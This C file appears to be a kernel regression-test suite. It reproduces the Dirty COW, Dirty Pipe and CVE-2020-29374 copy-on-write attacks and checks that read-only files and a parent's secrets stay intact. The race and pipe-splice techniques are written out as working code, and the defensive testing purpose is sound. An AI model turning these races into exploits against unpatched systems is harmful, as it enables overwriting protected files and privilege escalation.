/*
 * Attacks on the break of copy-on-write: Dirty COW (CVE-2016-5195), Dirty Pipe (CVE-2022-0847), and a
 * parent's secret that its child sees because one of them wrongly counts as sole owner (CVE-2020-29374).
 */
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <time.h>
#include <unistd.h>

#include "lib/abi/futex.h"
#include "lib/abi/socket.h"
#include "usr/tests/attacktest.h"
#include "usr/tests/memory.h"

#define TARGET_PAGES     4
#define TARGET_BYTES     (TARGET_PAGES * PAGE_BYTES)
#define PAYLOAD_BYTES    64
#define GOOD             'g'
#define EVIL             'e'
#define CHILD_EACH       16 /* rounds */
#define REST_NANOSECONDS 50000

/* A file that the attacker may only read, and the attacker's private mapping of it. */
static struct {
	int file;
	unsigned char *map;
	const unsigned char *witness; /* the file's own pages */
	int stop;
} target;

/* Sources of the data that is written. */
static int payload, pipe_ends[2], sockets[2];
static char evil[PAYLOAD_BYTES];

static void prepare_target(int protection, unsigned char *place)
{
	char good[PAGE_BYTES];
	int file = open("target", O_CREAT | O_RDWR, 0644);

	memset(good, GOOD, sizeof(good));
	for (int page = 0; page < TARGET_PAGES; page++)
		CHECK_EQUAL(write(file, good, sizeof(good)), sizeof(good));
	close(file);
	CHECK(chmod("target", 0444) == 0);
	memset(evil, EVIL, sizeof(evil));
	payload = open("payload", O_CREAT | O_RDWR, 0600);
	CHECK_EQUAL(write(payload, evil, sizeof(evil)), sizeof(evil));
	CHECK(pipe2(pipe_ends, O_NONBLOCK) == 0);
	CHECK_EQUAL(kernel_call(SYS_socketpair, AF_UNIX, SOCK_DGRAM | O_NONBLOCK, 0, sockets), 0);
	attack_become_user();
	CHECK_ERROR(open("target", O_RDWR), EACCES);
	target.file = open("target", O_RDONLY);
	target.map = mmap(place, TARGET_BYTES, protection,
		MAP_PRIVATE | (place != NULL ? MAP_FIXED : 0), target.file, 0);
	target.witness = mmap(NULL, TARGET_BYTES, PROT_READ, MAP_SHARED, target.file, 0);
	CHECK(target.map != MAP_FAILED && target.witness != MAP_FAILED);
}

/* The file is unchanged, by read() and in memory. */
static void check_target(const char *after)
{
	static unsigned char bytes[TARGET_BYTES];

	CHECK_EQUAL(pread(target.file, bytes, sizeof(bytes), 0), sizeof(bytes));
	for (size_t i = 0; i < TARGET_BYTES; i++) {
		if (bytes[i] != GOOD || target.witness[i] != GOOD)
			FAIL("byte %zu of the file has changed after %s", i, after);
	}
}

static void discard(void *argument)
{
	(void)argument;
	while (!atomic_load_flag(&target.stop))
		kernel_call(SYS_madvise, target.map, TARGET_BYTES, MADV_DONTNEED);
}

/* Brings the file's own pages back again and again. */
static void load(void *argument)
{
	(void)argument;
	while (!atomic_load_flag(&target.stop)) {
		for (size_t page = 0; page < TARGET_PAGES; page++)
			guarded_load(target.map + page * PAGE_BYTES);
	}
}

static long by_read(void *to)
{
	return kernel_call(SYS_pread64, payload, to, PAYLOAD_BYTES, 0);
}

static long by_readv(void *to)
{
	char *bytes = to;
	struct iovec vector[] = { { bytes, 8 }, { bytes + PAGE_BYTES, PAYLOAD_BYTES - 8 } };

	return kernel_call(SYS_preadv, payload, vector, 2, 0, 0);
}

static long by_pipe(void *to)
{
	char drain[PAYLOAD_BYTES];
	long result;

	CHECK_EQUAL(write(pipe_ends[1], evil, sizeof(evil)), sizeof(evil));
	result = kernel_call(SYS_read, pipe_ends[0], to, PAYLOAD_BYTES);
	while (read(pipe_ends[0], drain, sizeof(drain)) > 0)
		continue;
	return result;
}

static long by_socket(void *to)
{
	char drain[PAYLOAD_BYTES];
	long result;

	CHECK_EQUAL(write(sockets[1], evil, sizeof(evil)), sizeof(evil));
	result = kernel_call(SYS_recvfrom, sockets[0], to, PAYLOAD_BYTES, 0, NULL, NULL);
	while (read(sockets[0], drain, sizeof(drain)) > 0)
		continue;
	return result;
}

static long by_random(void *to)
{
	return kernel_call(SYS_getrandom, to, PAYLOAD_BYTES, 0);
}

static long by_futex(void *to)
{
	const unsigned int operation = FUTEX_OP_SET << 28 | EVIL << 12;

	return kernel_call(SYS_futex, to, FUTEX_WAKE_OP | FUTEX_PRIVATE_FLAG, 1, 1, to, operation);
}

static long by_clock(void *to)
{
	return kernel_call(SYS_clock_gettime, CLOCK_MONOTONIC, to);
}

static long by_stat(void *to)
{
	return kernel_call(SYS_fstat, payload, to);
}

static const struct {
	const char *name;
	long (*write)(void *to);
} writers[] = {
	{ "read", by_read },
	{ "readv", by_readv },
	{ "a pipe", by_pipe },
	{ "a socket", by_socket },
	{ "getrandom", by_random },
	{ "futex", by_futex },
	{ "clock_gettime", by_clock },
	{ "fstat", by_stat },
};
#define WRITERS (sizeof(writers) / sizeof(writers[0]))

/* Tries each way to write to each page but the last; all must work, or none. */
static void write_all(bool allowed)
{
	for (size_t i = 0; i < WRITERS; i++) {
		for (size_t page = 0; page + 1 < TARGET_PAGES; page++) {
			long result = writers[i].write(target.map + page * PAGE_BYTES);

			if (allowed ? result < 0 : result != -EFAULT)
				FAIL("%s gave %ld", writers[i].name, result);
		}
		check_target(writers[i].name);
	}
	if (allowed)
		memset(target.map, EVIL, TARGET_BYTES);
	check_target("stores");
}

static int write_in_child(void)
{
	int child = tap_fork();

	if (child == 0) {
		memset(target.map, EVIL, TARGET_BYTES / 2);
		CHECK_EQUAL(by_read(target.map + TARGET_BYTES / 2), PAYLOAD_BYTES);
		check_target("a child's stores");
		_exit(0);
	}
	return child;
}

/* also: what one more thread does to the mapping, or NULL. */
static void race_with_discard(bool allowed, bool children, void (*also)(void *argument))
{
	static struct thread threads[3];
	unsigned long deadline = attack_deadline();

	guard_faults();
	thread_start(&threads[0], discard, NULL);
	thread_start(&threads[1], load, NULL);
	if (also != NULL)
		thread_start(&threads[2], also, NULL);
	for (unsigned long round = 0; now_nanoseconds() < deadline; round++) {
		int child = children && round % CHILD_EACH == 0 ? write_in_child() : 0;

		write_all(allowed);
		if (child != 0)
			tap_join(child);
	}
	atomic_store_flag(&target.stop, 1);
	thread_join(&threads[0]);
	thread_join(&threads[1]);
	if (also != NULL)
		thread_join(&threads[2]); /* it ends with a readable mapping */
	CHECK(madvise(target.map, TARGET_BYTES, MADV_DONTNEED) == 0);
	for (size_t i = 0; i < TARGET_BYTES; i++)
		CHECK_EQUAL(target.map[i], GOOD);
}

static void dirty_cow(void)
{
	prepare_target(PROT_READ | PROT_WRITE, NULL);
	race_with_discard(true, false, NULL);
}

/* The same while parent and child share the page table, and both write. */
static void dirty_cow_shared_table(void)
{
	prepare_target(PROT_READ | PROT_WRITE, memory_map_table(1));
	race_with_discard(true, true, NULL);
}

/* Pauses, since locks are not fair: two threads that never pause keep all others out for minutes. */
static void protect(void *argument)
{
	const struct timespec rest = { .tv_nsec = REST_NANOSECONDS };

	(void)argument;
	while (!atomic_load_flag(&target.stop)) {
		kernel_call(SYS_mprotect, target.map, TARGET_BYTES, PROT_NONE);
		kernel_call(SYS_mprotect, target.map, TARGET_BYTES, PROT_READ);
		kernel_call(SYS_nanosleep, &rest, NULL);
	}
}

/* No call can write to a read-only mapping, whatever other threads do to it. */
static void dirty_cow_read_only(void)
{
	prepare_target(PROT_READ, NULL);
	race_with_discard(false, false, protect);
}

static void move_around(void *argument)
{
	char *place = argument;

	while (!atomic_load_flag(&target.stop)) {
		kernel_call(SYS_mremap, target.map, TARGET_BYTES, TARGET_BYTES,
			MREMAP_MAYMOVE | MREMAP_FIXED, place);
		kernel_call(SYS_mremap, place, TARGET_BYTES, TARGET_BYTES,
			MREMAP_MAYMOVE | MREMAP_FIXED, target.map);
	}
}

/* A file opened for reading never gets a writable shared mapping, wherever the mapping is just now. */
static void read_only_file_protected(void)
{
	static struct thread thread;
	unsigned char *place = memory_map_pages(2 * TARGET_PAGES);
	unsigned long deadline;

	prepare_target(PROT_READ, NULL);
	CHECK(mmap(target.map, TARGET_BYTES, PROT_READ, MAP_SHARED | MAP_FIXED, target.file, 0) ==
		target.map);
	munmap(place, 2 * TARGET_BYTES);
	thread_start(&thread, move_around, place);
	for (deadline = attack_deadline(); now_nanoseconds() < deadline;) {
		long result =
			kernel_call(SYS_mprotect, target.map, TARGET_BYTES, PROT_READ | PROT_WRITE);

		CHECK(result == -EACCES || result == -ENOMEM);
		CHECK_ERROR(mmap(NULL, TARGET_BYTES, PROT_WRITE, MAP_SHARED, target.file, 0),
			EACCES);
	}
	atomic_store_flag(&target.stop, 1);
	thread_join(&thread);
	check_target("mprotect");
}

/* A pipe holds copies of a file's data: bytes added to the pipe do not end up in the file. */
static void dirty_pipe(void)
{
	char bytes[PAGE_BYTES];

	prepare_target(PROT_READ, NULL);
	for (size_t offset = 1; offset < 3 * PAGE_BYTES; offset += 1021) {
		long from = (long)offset;

		/* All pages of the pipe have been used, and are empty. */
		for (int page = 0; page < 16; page++)
			CHECK_EQUAL(write(pipe_ends[1], target.map, PAGE_BYTES), PAGE_BYTES);
		while (read(pipe_ends[0], bytes, sizeof(bytes)) > 0)
			continue;
		CHECK_EQUAL(kernel_call(SYS_sendfile, pipe_ends[1], target.file, &from, 1), 1);
		CHECK_EQUAL(write(pipe_ends[1], evil, sizeof(evil)), sizeof(evil));
		check_target("a write to a pipe");
		CHECK_EQUAL(read(pipe_ends[0], bytes, sizeof(bytes)), 1 + (long)sizeof(evil));
	}
}

/* Parents and children */

#define OLD    0x01d01d01dul
#define SECRET 0x5ec2e75ec2e7ul
#define STOLEN 0x570137ul

/* A parent's memory, and how the page tables above it are shared once the child has it, too. */
struct memory {
	unsigned char *start;
	size_t pages;
	unsigned char *beside; /* shares all tables but the last-level one; NULL: not touched */
};

static struct memory make_memory(int kind)
{
	struct memory memory = { .pages = kind == 0 ? 1 : TABLE_PAGES };

	memory.start = kind == 0 ? memory_map_pages(1) : memory_map_table(OLD);
	memory.beside = kind == 2 ? memory_map_table(OLD) : NULL;
	memory_tag(memory.start, memory.pages, OLD);
	return memory;
}
#define MEMORY_KINDS 3 /* a table that fork copies; shared at the top; shared at the last level */

/* What a child does with its memory before its parent writes: each returns where the memory is then. */

static unsigned char *keeps(struct memory *memory)
{
	return memory->start;
}

static unsigned char *moves(struct memory *memory)
{
	size_t bytes = memory->pages * PAGE_BYTES;
	unsigned char *place = memory_map_pages(memory->pages);

	CHECK(mremap(memory->start, bytes, bytes, MREMAP_MAYMOVE | MREMAP_FIXED, place) == place);
	return place;
}

static unsigned char *protects(struct memory *memory)
{
	size_t bytes = memory->pages * PAGE_BYTES;

	CHECK(mprotect(memory->start, bytes, PROT_NONE) == 0);
	CHECK(mprotect(memory->start, bytes, PROT_READ | PROT_WRITE) == 0);
	return memory->start;
}

/* Only one reference is left, which is the child's once its parent has dropped its own. */
static unsigned char *has_written_a_page(struct memory *memory)
{
	memory_tag(memory->start + (memory->pages - 1) * PAGE_BYTES, 1, OLD);
	return memory->start;
}

static unsigned char *in_a_grandchild(struct memory *memory)
{
	if (tap_fork() != 0)
		_exit(0);
	return memory->start;
}

/* Through a pipe, as vmsplice() did. */
static unsigned char *in_a_pipe(struct memory *memory)
{
	const size_t half = PAGE_BYTES / 2;

	CHECK(pipe(pipe_ends) == 0);
	CHECK_EQUAL(write(pipe_ends[1], memory->start, half), half);
	CHECK_EQUAL(write(pipe_ends[1], memory->start + half, half), half);
	CHECK(munmap(memory->start, memory->pages * PAGE_BYTES) == 0);
	return NULL;
}

/* The child has unmapped all but one page, so that its parent could take itself for the sole owner. */
static unsigned char *lets_go_of_most(struct memory *memory)
{
	if (memory->pages > 1)
		CHECK(munmap(memory->start + PAGE_BYTES, (memory->pages - 1) * PAGE_BYTES) == 0);
	memory->pages = 1;
	return memory->start;
}

typedef unsigned char *trick(struct memory *memory);
static trick *const tricks[] = { keeps, moves, protects, has_written_a_page, in_a_grandchild,
	in_a_pipe, lets_go_of_most };
#define TRICKS (sizeof(tricks) / sizeof(tricks[0]))

/* The child's part: after its parent has written it sees the old content; then it stores itself. */
static void steal(struct memory memory, trick *trick, struct gate *ready, struct gate *go)
{
	unsigned char *start = trick(&memory);

	gate_open(ready);
	gate_wait(go);
	if (start == NULL) {
		start = memory_map_pages(1);
		memory.pages = 1;
		CHECK_EQUAL(read(pipe_ends[0], start, PAGE_BYTES), PAGE_BYTES);
	}
	memory_check_tag(start, memory.pages, OLD);
	memory_tag(start, memory.pages, STOLEN);
}

static void keep_secret(int kind, trick *trick)
{
	struct memory memory = make_memory(kind);
	struct gate ready, go, done;
	int child;

	gate_init(&ready);
	gate_init(&go);
	gate_init(&done);
	child = tap_fork();
	if (child == 0) {
		steal(memory, trick, &ready, &go);
		gate_open(&done);
		_exit(0);
	}
	if (memory.beside != NULL)
		memory_tag(memory.beside, 1, SECRET);
	gate_wait(&ready);
	memory_tag(memory.start, memory.pages, SECRET);
	gate_open(&go);
	gate_wait(&done);
	memory_check_tag(memory.start, memory.pages, SECRET);
	tap_join(child);
	memory_tag(memory.start, memory.pages, SECRET + 1);
	memory_check_tag(memory.start, memory.pages, SECRET + 1);
	memory_unmap_pages(memory.start, memory.pages);
	gate_close(&ready);
	gate_close(&go);
	gate_close(&done);
}

static void secrets_kept(void)
{
	for (int kind = 0; kind < MEMORY_KINDS; kind++) {
		for (size_t i = 0; i < TRICKS; i++)
			keep_secret(kind, tricks[i]);
	}
}

/* A child sleeps in read() while its parent writes: what the call then stores goes to the child's page. */
static void secret_during_a_call(void)
{
	for (int kind = 0; kind < MEMORY_KINDS; kind++) {
		struct memory memory = make_memory(kind);
		unsigned long *last = (unsigned long *)(void *)(memory.start + PAGE_BYTES) - 1;
		int child;

		*last = OLD;
		CHECK(pipe(pipe_ends) == 0);
		child = tap_fork();
		if (child == 0) {
			CHECK_EQUAL(read(pipe_ends[0], memory.start, PAYLOAD_BYTES), PAYLOAD_BYTES);
			CHECK_EQUAL(*last, OLD);
			memset(evil, EVIL, sizeof(evil));
			CHECK(memcmp(memory.start, evil, sizeof(evil)) == 0);
			_exit(0);
		}
		tap_wait_until_asleep(child);
		*last = SECRET;
		memset(evil, EVIL, sizeof(evil));
		memory_tag(memory.start, memory.pages, SECRET);
		CHECK_EQUAL(write(pipe_ends[1], evil, sizeof(evil)), sizeof(evil));
		tap_join(child);
		CHECK_EQUAL(*last, SECRET);
		memory_check_tag(memory.start, memory.pages, SECRET);
		close(pipe_ends[0]);
		close(pipe_ends[1]);
	}
}

static const struct tap_case cases[] = {
	{ "dirty-cow", dirty_cow, 0 },
	{ "dirty-cow-shared-table", dirty_cow_shared_table, 0 },
	{ "dirty-cow-read-only", dirty_cow_read_only, 0 },
	{ "read-only-file-protected", read_only_file_protected, 0 },
	{ "dirty-pipe", dirty_pipe, 0 },
	{ "secrets-kept", secrets_kept, 0 },
	{ "secret-during-a-call", secret_during_a_call, 0 },
};

const struct tap_group attack_cow_group = TAP_GROUP(cases);
